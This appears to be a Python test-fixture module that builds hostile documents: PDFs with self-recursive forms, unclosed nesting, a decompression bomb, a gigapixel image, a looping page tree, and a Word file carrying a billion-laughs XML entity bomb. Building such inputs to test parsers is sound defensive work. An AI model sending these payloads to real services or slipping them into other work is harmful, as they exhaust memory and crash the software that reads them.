"""Files made to hurt their reader: each function writes one, small on disk and large in what it asks for."""

from __future__ import annotations

import io
import zipfile
import zlib

SENTENCE = "We should build stocks of tungsten."


def pdf_of(objects: list[bytes]) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalog."""
    out = bytearray(b"%PDF-1.5\n")
    at = []
    for number, value in enumerate(objects, start=1):
        at.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, value)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in at)
    return bytes(out) + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, table)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A compressed stream."""
    packed = zlib.compress(content, 9)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream" % (len(packed), entries, packed)


def one_page(content: bytes, resources: bytes = b"", more: list[bytes] | None = None) -> bytes:
    """A PDF of one page with this content stream; `more` objects are numbered from 6."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources"
            b" << /Font << /F1 5 0 R >> %s >> >>" % resources,
            stream(content),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *(more or []),
        ]
    )


def words(text: str = SENTENCE, y: int = 700) -> bytes:
    """The operators that print a line."""
    return b"BT /F1 11 Tf 72 %d Td (%s) Tj ET\n" % (y, text.encode())


def forms_that_draw_each_other() -> bytes:
    """A page whose forms hold themselves and each other, two at a time: 2 to the power of 40 drawings."""
    forms = [
        stream(
            b"/X%d Do /X%d Do" % ((n + 1) % 40, (n + 1) % 40),
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X%d %d 0 R >> >>"
            % ((n + 1) % 40, 6 + (n + 1) % 40),
        )
        for n in range(40)
    ]
    return one_page(words() + b"/X0 Do", b"/XObject << /X0 6 0 R >>", forms)


def states_nested_without_end() -> bytes:
    """A page that saves the graphics state half a million times and never restores it."""
    return one_page(b"q " * 500_000 + words())


def arrays_nested_without_end() -> bytes:
    """A page whose content opens half a million arrays and dictionaries."""
    return one_page(words() + b"[" * 500_000 + b"<<" * 500_000)


def millions_of_operators() -> bytes:
    """A page with five million strokes, 30 kB on disk."""
    return one_page(words() + b"0 0 m 9 9 l S\n" * 1_500_000)


def a_million_characters_on_one_page() -> bytes:
    """A page of a million letters printed over each other."""
    return one_page(b"BT /F1 11 Tf 72 700 Td " + (b"(%s) Tj " % (b"a" * 56)) * 18_000 + b"ET")


def stream_that_unpacks_to_gigabytes() -> bytes:
    """A content stream that two filters unpack to 2 GB of blanks."""
    once = zlib.compress(bytes([32]) * 50_000_000, 9)
    twice = zlib.compress(once * 40, 9)
    page = one_page(words())
    bomb = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (len(twice), twice)
    return page.replace(b"/Contents 4 0 R", b"/Contents [4 0 R 6 0 R]").replace(
        b"xref\n0 6", b"6 0 obj\n%s\nendobj\nxref\n0 6" % bomb
    )


def picture_of_gigapixels() -> bytes:
    """A page with a picture of 60,000 by 60,000 points, packed into some kilobytes of JBIG2 that mean nothing."""
    picture = (
        b"<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray"
        b" /Filter /JBIG2Decode /Length 64 >>\nstream\n%s\nendstream" % bytes(64)
    )
    text = b"".join(words(y=780 - 12 * line) for line in range(20))
    return one_page(text + b"q 400 0 0 400 72 200 cm /I Do Q", b"/XObject << /I 6 0 R >>", [picture])


def page_tree_that_holds_itself() -> bytes:
    """A page tree whose node is its own child."""
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>"])


def count_that_lies() -> bytes:
    """A PDF of one page that says it has two billion."""
    return one_page(words()).replace(b"/Count 1 ", b"/Count 2000000000 ")


def docx_of(body: str, *, whole: str | None = None) -> bytes:
    """A Word file with this body, or with this as its whole document part."""
    import docx

    buffer = io.BytesIO()
    docx.Document().save(buffer)
    out = io.BytesIO()
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    with zipfile.ZipFile(buffer) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = whole or f'<w:document xmlns:w="{space}"><w:body>{body}</w:body></w:document>'
            new.writestr(name, part if name == "word/document.xml" else old.read(name))
    return out.getvalue()


def entity_bomb(root: str) -> str:
    """An XML document whose one word stands for a billion."""
    names = "abcdefghij"
    entities = "".join(
        f'<!ENTITY {name} "{"lol" if name == "a" else f"&{before};" * 10}">'
        for before, name in zip(" " + names, names, strict=False)
    )
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{entities}]><{root}><body><p>{SENTENCE} &j;</p></body></{root}>'
